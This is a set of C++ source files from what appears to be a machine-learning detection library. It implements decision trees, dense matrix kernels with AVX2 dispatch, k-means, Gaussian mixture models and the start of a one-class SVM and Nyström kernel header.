          dim = std::max(dim, static_cast<size_t>(nd.feature) + 1);
        }
      }
    }
    return PlanPtr(std::make_shared<ForestPlan>(trees, false, dim));
  }
  if (const auto* dt = dynamic_cast<const DecisionTree*>(&model)) {
    if (dt->nodes().empty()) return err("DecisionTree is not fitted");
    std::vector<const DecisionTree*> trees = {dt};
    size_t dim = 1;
    for (const auto& nd : dt->nodes()) {
      if (nd.feature >= 0) {
        dim = std::max(dim, static_cast<size_t>(nd.feature) + 1);
      }
    }
    return PlanPtr(std::make_shared<ForestPlan>(trees, true, dim));
  }
  if (const auto* gmm = dynamic_cast<const Gmm*>(&model)) {
    const Gmm::FoldedView v = gmm->folded_view();
    if (v.w1 == nullptr) return err("GMM is not fitted");
    return PlanPtr(std::make_shared<GmmPlan>(v, gmm->threshold()));
  }
  if (const auto* svm = dynamic_cast<const OneClassSvm*>(&model)) {
    const OneClassSvm::SupportView v = svm->support_view();
    if (v.sv_x == nullptr) return err("OneClassSVM is not fitted");
    return PlanPtr(std::make_shared<OcsvmPlan>(v, svm->threshold()));
  }
  if (const auto* losvm = dynamic_cast<const LinearOneClassSvm*>(&model)) {
    const LinearOneClassSvm::PlaneView v = losvm->plane_view();
    if (v.w == nullptr) return err("LinearOCSVM is not fitted");
    return PlanPtr(std::make_shared<LinearPlan>(v, losvm->threshold()));
  }
  if (const auto* lin = dynamic_cast<const LinearModel*>(&model)) {
    const LinearModel::WeightsView v = lin->weights_view();
    if (v.w == nullptr) return err("linear model is not fitted");
    const bool logistic =
        dynamic_cast<const LogisticRegression*>(&model) != nullptr;
    return PlanPtr(std::make_shared<LinearPlan>(
        v, logistic ? LinearPlan::Squash::kSigmoid
                    : LinearPlan::Squash::kSigmoid2x));
  }
  if (const auto* knn = dynamic_cast<const Knn*>(&model)) {
    const Knn::TrainView v = knn->train_view();
    if (v.train == nullptr) return err("kNN is not fitted");
    return PlanPtr(std::make_shared<KnnPlan>(*v.train, *v.sqnorm, v.k));
  }
  return err("no compiled form for model '" + model.name() + "'");
}

ModelPtr wrap(PlanPtr plan, std::string display_name) {
  return std::make_shared<PlanModel>(std::move(plan),
                                     std::move(display_name));
}

}  // namespace lumen::ml::compiled
