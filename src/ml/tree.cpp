#include "ml/tree.h"

#include <algorithm>
#include <cmath>
#include <numeric>

namespace lumen::ml {

namespace {

double gini(double pos, double total) {
  if (total <= 0.0) return 0.0;
  const double p = pos / total;
  return 2.0 * p * (1.0 - p);
}

}  // namespace

void DecisionTree::fit(const FeatureTable& X) {
  std::vector<size_t> rows(X.rows);
  std::iota(rows.begin(), rows.end(), 0);
  fit_rows(X, rows);
}

void DecisionTree::fit_rows(const FeatureTable& X,
                            const std::vector<size_t>& rows) {
  nodes_.clear();
  depth_ = 0;
  if (rows.empty() || X.cols == 0) {
    nodes_.push_back(Node{});
    return;
  }
  std::vector<size_t> work = rows;
  Rng rng(cfg_.seed);
  build(X, work, 0, work.size(), 0, rng);
}

int DecisionTree::build(const FeatureTable& X, std::vector<size_t>& rows,
                        size_t lo, size_t hi, int depth, Rng& rng) {
  depth_ = std::max(depth_, depth);
  const size_t n = hi - lo;
  double pos = 0.0;
  for (size_t i = lo; i < hi; ++i) pos += X.labels[rows[i]];

  const int node_id = static_cast<int>(nodes_.size());
  nodes_.push_back(Node{});
  nodes_[node_id].p_malicious = n > 0 ? pos / static_cast<double>(n) : 0.0;

  const bool pure = pos <= 0.0 || pos >= static_cast<double>(n);
  if (pure || depth >= cfg_.max_depth || n < cfg_.min_samples_split) {
    return node_id;
  }

  // Decide which features to scan at this node.
  size_t n_try = cfg_.max_features;
  if (cfg_.use_sqrt_features) {
    n_try = static_cast<size_t>(std::ceil(std::sqrt(X.cols)));
  }
  if (n_try == 0 || n_try > X.cols) n_try = X.cols;
  std::vector<size_t> feats(X.cols);
  std::iota(feats.begin(), feats.end(), 0);
  if (n_try < X.cols) rng.shuffle(feats);

  double best_gain = 1e-12;
  int best_feat = -1;
  double best_thresh = 0.0;
  const double parent_impurity = gini(pos, static_cast<double>(n));

  std::vector<std::pair<double, int>> vals;
  vals.reserve(n);
  for (size_t fi = 0; fi < n_try; ++fi) {
    const size_t f = feats[fi];
    vals.clear();
    for (size_t i = lo; i < hi; ++i) {
      vals.emplace_back(X.at(rows[i], f), X.labels[rows[i]]);
    }
    std::sort(vals.begin(), vals.end());
    if (vals.front().first == vals.back().first) continue;

    double left_pos = 0.0;
    for (size_t i = 0; i + 1 < n; ++i) {
      left_pos += vals[i].second;
      if (vals[i].first == vals[i + 1].first) continue;
      const size_t left_n = i + 1;
      const size_t right_n = n - left_n;
      if (left_n < cfg_.min_samples_leaf || right_n < cfg_.min_samples_leaf) {
        continue;
      }
      const double right_pos = pos - left_pos;
      const double weighted =
          (static_cast<double>(left_n) * gini(left_pos, left_n) +
           static_cast<double>(right_n) * gini(right_pos, right_n)) /
          static_cast<double>(n);
      const double gain = parent_impurity - weighted;
      if (gain > best_gain) {
        best_gain = gain;
        best_feat = static_cast<int>(f);
        best_thresh = 0.5 * (vals[i].first + vals[i + 1].first);
      }
    }
  }

  if (best_feat < 0) return node_id;

  // Partition rows in place around the chosen split.
  auto mid_it = std::partition(
      rows.begin() + static_cast<std::ptrdiff_t>(lo),
      rows.begin() + static_cast<std::ptrdiff_t>(hi), [&](size_t r) {
        return X.at(r, static_cast<size_t>(best_feat)) <= best_thresh;
      });
  const size_t mid = static_cast<size_t>(mid_it - rows.begin());
  if (mid == lo || mid == hi) return node_id;  // degenerate partition

  nodes_[node_id].feature = best_feat;
  nodes_[node_id].threshold = best_thresh;
  const int left = build(X, rows, lo, mid, depth + 1, rng);
  const int right = build(X, rows, mid, hi, depth + 1, rng);
  nodes_[node_id].left = left;
  nodes_[node_id].right = right;
  return node_id;
}

double DecisionTree::predict_row(std::span<const double> x) const {
  if (nodes_.empty()) return 0.0;
  int id = 0;
  while (nodes_[id].feature >= 0) {
    const Node& nd = nodes_[id];
    id = x[static_cast<size_t>(nd.feature)] <= nd.threshold ? nd.left
                                                            : nd.right;
  }
  return nodes_[id].p_malicious;
}

std::vector<double> DecisionTree::score(const FeatureTable& X) const {
  std::vector<double> out(X.rows);
  for (size_t r = 0; r < X.rows; ++r) out[r] = predict_row(X.row(r));
  return out;
}

std::vector<int> DecisionTree::predict(const FeatureTable& X) const {
  std::vector<int> out(X.rows);
  for (size_t r = 0; r < X.rows; ++r) {
    out[r] = predict_row(X.row(r)) >= 0.5 ? 1 : 0;
  }
  return out;
}

}  // namespace lumen::ml
