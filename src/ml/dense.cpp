#include "ml/dense.h"

#include <algorithm>
#include <atomic>
#include <cmath>
#include <vector>

#include "common/simd.h"

namespace lumen::ml::dense {

// ------------------------------------------------------------ scalar path
//
// These are the reference semantics: straight loops, left-to-right
// accumulation, std::exp activations. dense_test compares every other
// backend against naive re-implementations of the same contracts.

namespace scalar {

double dot_k(size_t n, const double* x, const double* y) {
  double s = 0.0;
  for (size_t i = 0; i < n; ++i) s += x[i] * y[i];
  return s;
}

void axpy_k(size_t n, double alpha, const double* x, double* y) {
  for (size_t i = 0; i < n; ++i) y[i] += alpha * x[i];
}

void rot_k(size_t n, double* x, size_t incx, double* y, size_t incy, double c,
           double s) {
  for (size_t i = 0; i < n; ++i) {
    double* px = x + i * incx;
    double* py = y + i * incy;
    const double xv = *px;
    const double yv = *py;
    *px = c * xv - s * yv;
    *py = s * xv + c * yv;
  }
}

void gemv_k(size_t m, size_t n, const double* a, size_t lda, const double* x,
            const double* bias, double* y) {
  for (size_t i = 0; i < m; ++i) {
    double s = bias != nullptr ? bias[i] : 0.0;
    const double* row = a + i * lda;
    for (size_t j = 0; j < n; ++j) s += row[j] * x[j];
    y[i] = s;
  }
}

void gemv_t_k(size_t m, size_t n, const double* a, size_t lda,
              const double* x, double* y) {
  for (size_t j = 0; j < n; ++j) y[j] = 0.0;
  for (size_t i = 0; i < m; ++i) {
    const double* row = a + i * lda;
    const double xi = x[i];
    for (size_t j = 0; j < n; ++j) y[j] += row[j] * xi;
  }
}

void ger_k(size_t m, size_t n, double alpha, const double* x, const double* y,
           double* a, size_t lda) {
  for (size_t i = 0; i < m; ++i) {
    double* row = a + i * lda;
    const double ax = alpha * x[i];
    for (size_t j = 0; j < n; ++j) row[j] += ax * y[j];
  }
}

void gemm_nt_k(size_t m, size_t n, size_t k, const double* a, size_t lda,
               const double* b, size_t ldb, const double* bias, double beta,
               double* c, size_t ldc) {
  for (size_t i = 0; i < m; ++i) {
    const double* ai = a + i * lda;
    double* ci = c + i * ldc;
    for (size_t j = 0; j < n; ++j) {
      double s = beta != 0.0 ? ci[j] : (bias != nullptr ? bias[j] : 0.0);
      const double* bj = b + j * ldb;
      for (size_t l = 0; l < k; ++l) s += ai[l] * bj[l];
      ci[j] = s;
    }
  }
}

void gemm_nn_k(size_t m, size_t n, size_t k, const double* a, size_t lda,
               const double* b, size_t ldb, double beta, double* c,
               size_t ldc) {
  for (size_t i = 0; i < m; ++i) {
    const double* ai = a + i * lda;
    double* ci = c + i * ldc;
    if (beta == 0.0) {
      for (size_t j = 0; j < n; ++j) ci[j] = 0.0;
    }
    for (size_t l = 0; l < k; ++l) {
      const double ail = ai[l];
      const double* bl = b + l * ldb;
      for (size_t j = 0; j < n; ++j) ci[j] += ail * bl[j];
    }
  }
}

void gemm_tn_k(size_t m, size_t n, size_t k, double alpha, const double* a,
               size_t lda, const double* b, size_t ldb, double* c,
               size_t ldc) {
  for (size_t l = 0; l < k; ++l) {
    const double* al = a + l * lda;
    const double* bl = b + l * ldb;
    for (size_t i = 0; i < m; ++i) {
      const double s = alpha * al[i];
      double* ci = c + i * ldc;
      for (size_t j = 0; j < n; ++j) ci[j] += s * bl[j];
    }
  }
}

void sigmoid_k(size_t n, double* x) {
  for (size_t i = 0; i < n; ++i) x[i] = 1.0 / (1.0 + std::exp(-x[i]));
}

void relu_k(size_t n, double* x) {
  for (size_t i = 0; i < n; ++i) x[i] = std::max(0.0, x[i]);
}

void exp_k(size_t n, double* x) {
  for (size_t i = 0; i < n; ++i) {
    x[i] = std::exp(std::clamp(x[i], -708.0, 708.0));
  }
}

void sq_dist_k(size_t rows, size_t n, const double* x, const double* y,
               size_t ldy, double* out) {
  for (size_t r = 0; r < rows; ++r) {
    const double* yr = y + r * ldy;
    double d = 0.0;
    for (size_t i = 0; i < n; ++i) {
      const double diff = x[i] - yr[i];
      d += diff * diff;
    }
    out[r] = d;
  }
}

void packed_apply_k(size_t m, size_t np, size_t k, const double* x,
                    size_t ldx, const double* wt, const double* bias,
                    double* y, size_t ldy) {
  // Per element: y[i][j] = bias[j] + sum over l (sequential) — the fixed
  // accumulation order the packed_apply contract promises, so row i's
  // result never depends on m.
  for (size_t i = 0; i < m; ++i) {
    const double* xi = x + i * ldx;
    double* yi = y + i * ldy;
    for (size_t j = 0; j < np; ++j) yi[j] = bias[j];
    for (size_t l = 0; l < k; ++l) {
      const double xl = xi[l];
      const double* wl = wt + l * np;
      for (size_t j = 0; j < np; ++j) yi[j] += xl * wl[j];
    }
  }
}

}  // namespace scalar

const Kernels& scalar_kernels() {
  static const Kernels k = {
      scalar::dot_k,    scalar::axpy_k,    scalar::rot_k,
      scalar::gemv_k,   scalar::gemv_t_k,  scalar::ger_k,
      scalar::gemm_nt_k, scalar::gemm_nn_k, scalar::gemm_tn_k,
      scalar::sigmoid_k, scalar::relu_k,   scalar::exp_k,
      scalar::sq_dist_k, scalar::packed_apply_k,
  };
  return k;
}

#ifdef LUMEN_DENSE_HAVE_AVX2
// Defined in dense_avx2.cpp (compiled with -mavx2 -mfma).
const Kernels& avx2_kernels_impl();
#endif

const Kernels* avx2_kernels() {
#ifdef LUMEN_DENSE_HAVE_AVX2
  static const Kernels* k =
      simd::cpu_has_avx2_fma() ? &avx2_kernels_impl() : nullptr;
  return k;
#else
  return nullptr;
#endif
}

bool avx2_available() { return avx2_kernels() != nullptr; }

// --------------------------------------------------------------- dispatch

namespace {

std::atomic<Backend>& backend_override() {
  static std::atomic<Backend> b{Backend::kAuto};
  return b;
}

const Kernels* resolve(Backend b) {
  switch (b) {
    case Backend::kScalar:
      return &scalar_kernels();
    case Backend::kAvx2:
      if (const Kernels* k = avx2_kernels()) return k;
      return &scalar_kernels();
    case Backend::kAuto:
    default:
      break;
  }
  if (simd::env_request() == simd::Request::kScalar) return &scalar_kernels();
  if (const Kernels* k = avx2_kernels()) return k;
  return &scalar_kernels();
}

inline const Kernels& active() {
  return *resolve(backend_override().load(std::memory_order_relaxed));
}

}  // namespace

void set_backend(Backend b) {
  backend_override().store(b, std::memory_order_relaxed);
}

Backend ScopedBackend::active_raw() {
  return backend_override().load(std::memory_order_relaxed);
}

Backend active_backend() {
  const Kernels* k = resolve(backend_override().load(std::memory_order_relaxed));
  return k == &scalar_kernels() ? Backend::kScalar : Backend::kAvx2;
}

const char* backend_name(Backend b) {
  switch (b) {
    case Backend::kScalar:
      return "scalar";
    case Backend::kAvx2:
      return "avx2";
    case Backend::kAuto:
    default:
      return "auto";
  }
}

// ------------------------------------------------------------- public API

double dot(size_t n, const double* x, const double* y) {
  return active().dot(n, x, y);
}

void axpy(size_t n, double alpha, const double* x, double* y) {
  active().axpy(n, alpha, x, y);
}

void rot(size_t n, double* x, size_t incx, double* y, size_t incy, double c,
         double s) {
  active().rot(n, x, incx, y, incy, c, s);
}

void gemv(size_t m, size_t n, const double* a, size_t lda, const double* x,
          const double* bias, double* y) {
  active().gemv(m, n, a, lda, x, bias, y);
}

void gemv_t(size_t m, size_t n, const double* a, size_t lda, const double* x,
            double* y) {
  active().gemv_t(m, n, a, lda, x, y);
}

void ger(size_t m, size_t n, double alpha, const double* x, const double* y,
         double* a, size_t lda) {
  active().ger(m, n, alpha, x, y, a, lda);
}

void gemm_nt(size_t m, size_t n, size_t k, const double* a, size_t lda,
             const double* b, size_t ldb, const double* bias, double beta,
             double* c, size_t ldc) {
  active().gemm_nt(m, n, k, a, lda, b, ldb, bias, beta, c, ldc);
}

void gemm_nn(size_t m, size_t n, size_t k, const double* a, size_t lda,
             const double* b, size_t ldb, double beta, double* c,
             size_t ldc) {
  active().gemm_nn(m, n, k, a, lda, b, ldb, beta, c, ldc);
}

void gemm_tn(size_t m, size_t n, size_t k, double alpha, const double* a,
             size_t lda, const double* b, size_t ldb, double* c, size_t ldc) {
  active().gemm_tn(m, n, k, alpha, a, lda, b, ldb, c, ldc);
}

void sigmoid_sweep(size_t n, double* x) { active().sigmoid_sweep(n, x); }
void relu_sweep(size_t n, double* x) { active().relu_sweep(n, x); }
void exp_sweep(size_t n, double* x) { active().exp_sweep(n, x); }

void packed_apply(size_t m, size_t n_pad, size_t k, const double* x,
                  size_t ldx, const double* wt, const double* bias, double* y,
                  size_t ldy) {
  active().packed_apply(m, n_pad, k, x, ldx, wt, bias, y, ldy);
}

// ------------------------------------------------------------ PackedDense

void PackedDense::pack(size_t out, size_t in, const double* w, size_t ldw,
                       const double* bias) {
  out_ = out;
  in_ = in;
  out_pad_ = (out + kPackPad - 1) / kPackPad * kPackPad;
  wt_.assign(in_ * out_pad_, 0.0);
  for (size_t o = 0; o < out_; ++o) {
    const double* row = w + o * ldw;
    for (size_t i = 0; i < in_; ++i) wt_[i * out_pad_ + o] = row[i];
  }
  bias_.assign(out_pad_, 0.0);
  if (bias != nullptr) {
    for (size_t o = 0; o < out_; ++o) bias_[o] = bias[o];
  }
}

void PackedDense::apply(size_t m, const double* x, size_t ldx, double* y,
                        size_t ldy) const {
  packed_apply(m, out_pad_, in_, x, ldx, wt_.data(), bias_.data(), y, ldy);
}

void sq_dist(size_t rows, size_t n, const double* x, const double* y,
             size_t ldy, double* out) {
  active().sq_dist(rows, n, x, y, ldy, out);
}

void row_sq_norms(size_t m, size_t n, const double* x, size_t ldx,
                  double* out) {
  const Kernels& k = active();
  for (size_t i = 0; i < m; ++i) {
    const double* row = x + i * ldx;
    out[i] = k.dot(n, row, row);
  }
}

void sq_dist_batch(size_t m, size_t r, size_t n, const double* x, size_t ldx,
                   const double* y, size_t ldy, const double* xn,
                   const double* yn, double* d, size_t ldd) {
  const Kernels& k = active();
  // Crossover heuristic: the expansion's fixed costs (two norm passes, the
  // GEMM setup, the finalize sweep) only amortize across enough query
  // rows; tiny batches go straight to the direct-difference kernel, which
  // is bit-identical to calling sq_dist once per row.
  if (m < kSqDistBatchCrossover) {
    for (size_t i = 0; i < m; ++i) {
      k.sq_dist(r, n, x + i * ldx, y, ldy, d + i * ldd);
    }
    return;
  }
  // Norms first (unless the caller precomputed them), then the cross term
  // as one GEMM: D = -2 * X Y^T, finalized with the norm sums.
  constexpr size_t kMaxStackNorms = 256;
  double xbuf[kMaxStackNorms];
  double ybuf[kMaxStackNorms];
  std::vector<double> xheap, yheap;
  const double* xnorm = xn;
  const double* ynorm = yn;
  if (xnorm == nullptr) {
    double* dst = xbuf;
    if (m > kMaxStackNorms) {
      xheap.resize(m);
      dst = xheap.data();
    }
    for (size_t i = 0; i < m; ++i) {
      const double* row = x + i * ldx;
      dst[i] = k.dot(n, row, row);
    }
    xnorm = dst;
  }
  if (ynorm == nullptr) {
    double* dst = ybuf;
    if (r > kMaxStackNorms) {
      yheap.resize(r);
      dst = yheap.data();
    }
    for (size_t j = 0; j < r; ++j) {
      const double* row = y + j * ldy;
      dst[j] = k.dot(n, row, row);
    }
    ynorm = dst;
  }
  k.gemm_nt(m, r, n, x, ldx, y, ldy, nullptr, 0.0, d, ldd);
  for (size_t i = 0; i < m; ++i) {
    double* di = d + i * ldd;
    const double xi = xnorm[i];
    for (size_t j = 0; j < r; ++j) {
      di[j] = std::max(0.0, xi + ynorm[j] - 2.0 * di[j]);
    }
  }
}

}  // namespace lumen::ml::dense
