#include "ml/gmm.h"

#include <algorithm>
#include <cmath>
#include <limits>

#include "common/parallel.h"
#include "ml/dense.h"

namespace lumen::ml {

namespace {
constexpr double kVarFloor = 1e-6;

double sq_dist(std::span<const double> a, const double* b, size_t n) {
  double d = 0.0;
  for (size_t i = 0; i < n; ++i) {
    const double diff = a[i] - b[i];
    d += diff * diff;
  }
  return d;
}
}  // namespace

void KMeans::fit(const FeatureTable& X, const std::vector<size_t>& rows) {
  dim_ = X.cols;
  k_ = std::min(cfg_.k, rows.size());
  centroids_.assign(k_ * dim_, 0.0);
  if (k_ == 0) return;
  Rng rng(cfg_.seed);

  // k-means++-style seeding: first centroid random, rest far from chosen.
  std::vector<size_t> chosen;
  chosen.push_back(rows[rng.below(rows.size())]);
  std::vector<double> d2(rows.size(), std::numeric_limits<double>::max());
  while (chosen.size() < k_) {
    const auto c = X.row(chosen.back());
    double total = 0.0;
    for (size_t i = 0; i < rows.size(); ++i) {
      const double d = sq_dist(X.row(rows[i]), c.data(), dim_);
      d2[i] = std::min(d2[i], d);
      total += d2[i];
    }
    double r = rng.uniform() * total;
    size_t pick = 0;
    for (size_t i = 0; i < rows.size(); ++i) {
      r -= d2[i];
      if (r <= 0.0) {
        pick = i;
        break;
      }
    }
    chosen.push_back(rows[pick]);
  }
  for (size_t c = 0; c < k_; ++c) {
    const auto row = X.row(chosen[c]);
    std::copy(row.begin(), row.end(),
              centroids_.begin() + static_cast<std::ptrdiff_t>(c * dim_));
  }

  std::vector<size_t> assign_of(rows.size(), 0);
  for (size_t it = 0; it < cfg_.iters; ++it) {
    bool moved = false;
    for (size_t i = 0; i < rows.size(); ++i) {
      const size_t a = assign(X.row(rows[i]));
      if (a != assign_of[i]) {
        assign_of[i] = a;
        moved = true;
      }
    }
    std::vector<double> sums(k_ * dim_, 0.0);
    std::vector<size_t> counts(k_, 0);
    for (size_t i = 0; i < rows.size(); ++i) {
      const auto x = X.row(rows[i]);
      const size_t a = assign_of[i];
      ++counts[a];
      for (size_t d = 0; d < dim_; ++d) sums[a * dim_ + d] += x[d];
    }
    for (size_t c = 0; c < k_; ++c) {
      if (counts[c] == 0) continue;
      for (size_t d = 0; d < dim_; ++d) {
        centroids_[c * dim_ + d] =
            sums[c * dim_ + d] / static_cast<double>(counts[c]);
      }
    }
    if (!moved && it > 0) break;
  }
}

size_t KMeans::assign(std::span<const double> x) const {
  size_t best = 0;
  double best_d = std::numeric_limits<double>::max();
  for (size_t c = 0; c < k_; ++c) {
    const double d = sq_dist(x, centroids_.data() + c * dim_, dim_);
    if (d < best_d) {
      best_d = d;
      best = c;
    }
  }
  return best;
}

void Gmm::fit(const FeatureTable& X) {
  const std::vector<size_t> rows = benign_rows(X);
  dim_ = X.cols;
  k_ = std::min(cfg_.components, std::max<size_t>(rows.size(), 1));
  weight_.assign(k_, 1.0 / static_cast<double>(k_));
  mean_.assign(k_ * dim_, 0.0);
  var_.assign(k_ * dim_, 1.0);
  if (rows.empty()) {
    prepare_scoring();
    return;
  }

  // Initialize means with k-means, variances with per-cluster spread.
  KMeans::Config kc;
  kc.k = k_;
  kc.seed = cfg_.seed;
  KMeans km(kc);
  km.fit(X, rows);
  mean_ = km.centroids();
  {
    std::vector<double> acc(k_ * dim_, 0.0);
    std::vector<size_t> counts(k_, 0);
    for (size_t r : rows) {
      const auto x = X.row(r);
      const size_t a = km.assign(x);
      ++counts[a];
      for (size_t d = 0; d < dim_; ++d) {
        const double diff = x[d] - mean_[a * dim_ + d];
        acc[a * dim_ + d] += diff * diff;
      }
    }
    for (size_t c = 0; c < k_; ++c) {
      for (size_t d = 0; d < dim_; ++d) {
        var_[c * dim_ + d] =
            counts[c] > 0
                ? std::max(acc[c * dim_ + d] / static_cast<double>(counts[c]),
                           kVarFloor)
                : 1.0;
      }
    }
  }

  // EM with responsibilities in log space.
  const size_t n = rows.size();
  std::vector<double> resp(n * k_, 0.0);
  std::vector<double> row_ll(n, 0.0);
  double prev_ll = -std::numeric_limits<double>::max();
  for (size_t it = 0; it < cfg_.iters; ++it) {
    // E-step: rows are independent; per-row log-likelihoods land in an
    // index-addressed buffer and are reduced serially so the sum is
    // byte-identical to the serial loop.
    parallel_for(
        0, n,
        [&](size_t i) {
          const auto x = X.row(rows[i]);
          double maxl = -std::numeric_limits<double>::max();
          thread_local std::vector<double> logp;
          logp.resize(k_);
          for (size_t c = 0; c < k_; ++c) {
            double l = std::log(std::max(weight_[c], 1e-12));
            for (size_t d = 0; d < dim_; ++d) {
              const double v = var_[c * dim_ + d];
              const double diff = x[d] - mean_[c * dim_ + d];
              l += -0.5 * (std::log(2.0 * M_PI * v) + diff * diff / v);
            }
            logp[c] = l;
            maxl = std::max(maxl, l);
          }
          double denom = 0.0;
          for (size_t c = 0; c < k_; ++c) denom += std::exp(logp[c] - maxl);
          row_ll[i] = maxl + std::log(denom);
          for (size_t c = 0; c < k_; ++c) {
            resp[i * k_ + c] = std::exp(logp[c] - maxl) / denom;
          }
        },
        /*min_parallel=*/64);
    double total_ll = 0.0;
    for (size_t i = 0; i < n; ++i) total_ll += row_ll[i];
    final_ll_ = total_ll / static_cast<double>(n);
    if (std::fabs(final_ll_ - prev_ll) < 1e-8) break;
    prev_ll = final_ll_;

    // M-step: components touch disjoint weight/mean/var slices.
    parallel_for(
        0, k_,
        [&](size_t c) {
          double nk = 0.0;
          for (size_t i = 0; i < n; ++i) nk += resp[i * k_ + c];
          weight_[c] = std::max(nk / static_cast<double>(n), 1e-8);
          if (nk < 1e-10) return;
          for (size_t d = 0; d < dim_; ++d) {
            double m = 0.0;
            for (size_t i = 0; i < n; ++i) {
              m += resp[i * k_ + c] * X.at(rows[i], d);
            }
            mean_[c * dim_ + d] = m / nk;
          }
          for (size_t d = 0; d < dim_; ++d) {
            double v = 0.0;
            for (size_t i = 0; i < n; ++i) {
              const double diff = X.at(rows[i], d) - mean_[c * dim_ + d];
              v += resp[i * k_ + c] * diff * diff;
            }
            var_[c * dim_ + d] = std::max(v / nk, kVarFloor);
          }
        },
        /*min_parallel=*/2);
  }

  prepare_scoring();

  // Threshold from benign scores, through the same blocked path score()
  // uses (the benign rows are gathered contiguously first).
  std::vector<double> gather;
  std::vector<double> s(n, 0.0);
  for (size_t lo = 0; lo < n; lo += dense::kScoreBlock) {
    const size_t hi = std::min(n, lo + dense::kScoreBlock);
    const size_t m = hi - lo;
    gather.resize(m * dim_);
    for (size_t i = 0; i < m; ++i) {
      const auto row = X.row(rows[lo + i]);
      std::copy(row.begin(), row.end(), gather.begin() + i * dim_);
    }
    score_block(gather.data(), m, dim_, s.data() + lo);
  }
  threshold_ = quantile_threshold(std::move(s), cfg_.quantile);
}

void Gmm::prepare_scoring() {
  w1_.resize(k_ * dim_);
  w2_.resize(k_ * dim_);
  const_.resize(k_);
  for (size_t c = 0; c < k_; ++c) {
    double cst = std::log(std::max(weight_[c], 1e-12));
    for (size_t d = 0; d < dim_; ++d) {
      const double v = var_[c * dim_ + d];
      const double m = mean_[c * dim_ + d];
      w1_[c * dim_ + d] = -0.5 / v;
      w2_[c * dim_ + d] = m / v;
      cst += -0.5 * (std::log(2.0 * M_PI * v) + m * m / v);
    }
    const_[c] = cst;
  }
}

void Gmm::score_block(const double* x, size_t m, size_t ldx,
                      double* out) const {
  thread_local std::vector<double> xsq, logp;
  xsq.resize(m * dim_);
  for (size_t i = 0; i < m; ++i) {
    const double* xi = x + i * ldx;
    double* qi = xsq.data() + i * dim_;
    for (size_t d = 0; d < dim_; ++d) qi[d] = xi[d] * xi[d];
  }
  logp.resize(m * k_);
  dense::gemm_nt(m, k_, dim_, xsq.data(), dim_, w1_.data(), dim_,
                 const_.data(), 0.0, logp.data(), k_);
  dense::gemm_nt(m, k_, dim_, x, ldx, w2_.data(), dim_, nullptr, 1.0,
                 logp.data(), k_);
  for (size_t i = 0; i < m; ++i) {
    const double* li = logp.data() + i * k_;
    double maxl = -std::numeric_limits<double>::max();
    for (size_t c = 0; c < k_; ++c) maxl = std::max(maxl, li[c]);
    double denom = 0.0;
    for (size_t c = 0; c < k_; ++c) denom += std::exp(li[c] - maxl);
    out[i] = -(maxl + std::log(denom));
  }
}

double Gmm::log_density(std::span<const double> x) const {
  double maxl = -std::numeric_limits<double>::max();
  std::vector<double> logp(k_);
  for (size_t c = 0; c < k_; ++c) {
    double l = std::log(std::max(weight_[c], 1e-12));
    for (size_t d = 0; d < dim_; ++d) {
      const double v = var_[c * dim_ + d];
      const double diff = x[d] - mean_[c * dim_ + d];
      l += -0.5 * (std::log(2.0 * M_PI * v) + diff * diff / v);
    }
    logp[c] = l;
    maxl = std::max(maxl, l);
  }
  double denom = 0.0;
  for (size_t c = 0; c < k_; ++c) denom += std::exp(logp[c] - maxl);
  return maxl + std::log(denom);
}

std::vector<double> Gmm::score(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  if (w1_.size() != k_ * dim_ || X.cols != dim_) return score_perrow(X);
  const size_t nblocks =
      (X.rows + dense::kScoreBlock - 1) / dense::kScoreBlock;
  parallel_for(
      0, nblocks,
      [&](size_t blk) {
        const size_t lo = blk * dense::kScoreBlock;
        const size_t hi = std::min(X.rows, lo + dense::kScoreBlock);
        score_block(X.data.data() + lo * X.cols, hi - lo, X.cols,
                    out.data() + lo);
      },
      /*min_parallel=*/2);
  return out;
}

std::vector<double> Gmm::score_perrow(const FeatureTable& X) const {
  std::vector<double> out(X.rows, 0.0);
  parallel_for(
      0, X.rows, [&](size_t r) { out[r] = -log_density(X.row(r)); },
      /*min_parallel=*/64);
  return out;
}

std::vector<int> Gmm::predict(const FeatureTable& X) const {
  return threshold_predict(score(X), threshold_);
}

}  // namespace lumen::ml
