// Kernel machinery for the Efficient-OCSVM family (Yang et al.):
//  * RBF kernel with median-heuristic bandwidth
//  * Nyström feature map (landmarks + K_mm^{-1/2} projection)
//  * One-class SVM solved in the dual by projected gradient descent
#pragma once

#include "ml/eigen.h"
#include "ml/model.h"

namespace lumen::ml {

/// exp(-gamma * ||x - y||^2).
double rbf_kernel(std::span<const double> x, std::span<const double> y,
                  double gamma);

/// Median-of-pairwise-distances heuristic for gamma (on a row sample).
double median_heuristic_gamma(const FeatureTable& X, size_t sample = 200,
                              uint64_t seed = 19);

/// Nyström approximation: embeds rows into an m-dimensional space where the
/// dot product approximates the RBF kernel.
class NystromMap {
 public:
  struct Config {
    size_t n_landmarks = 64;
    double gamma = 0.0;  // 0 = use the median heuristic
    uint64_t seed = 23;
  };

  NystromMap() : NystromMap(Config{}) {}
  explicit NystromMap(Config cfg) : cfg_(cfg) {}

  /// Pick landmarks from X and form the whitening projection.
  void fit(const FeatureTable& X);

  /// Map a table into the landmark space (labels/metadata carried over).
  FeatureTable transform(const FeatureTable& X) const;

  bool fitted() const { return !landmarks_.empty(); }
  double gamma() const { return gamma_; }
  size_t dim() const { return rank_; }

  /// Pre-PR reference: per-row kernel-vector + projection loop. Kept for
  /// the batched-vs-per-row equivalence tests.
  FeatureTable transform_perrow(const FeatureTable& X) const;

 private:
  Config cfg_;
  double gamma_ = 1.0;
  size_t n_features_ = 0;
  size_t rank_ = 0;
  std::vector<double> landmarks_;       // n_landmarks x n_features
  std::vector<double> landmark_norms_;  // ||landmark||^2 per row
  std::vector<double> projection_;      // n_landmarks x rank (K_mm^{-1/2})
  size_t n_landmarks_ = 0;
};

/// Kernel one-class SVM: dual problem
///   min 0.5 a^T K a   s.t. 0 <= a_i <= 1/(nu*n), sum a = 1,
/// solved by projected gradient with a simplex-box projection. Anomaly score
/// is rho - sum_i a_i k(x_i, x); threshold calibrated on benign scores.
class OneClassSvm : public Model {
 public:
  struct Config {
    double nu = 0.05;
    double gamma = 0.0;  // 0 = median heuristic
    size_t max_train_rows = 600;
    size_t iters = 200;
    double quantile = 0.98;  // benign-score threshold quantile
    uint64_t seed = 29;
  };

  OneClassSvm() : OneClassSvm(Config{}) {}
  explicit OneClassSvm(Config cfg) : cfg_(cfg) {}

  void fit(const FeatureTable& X) override;
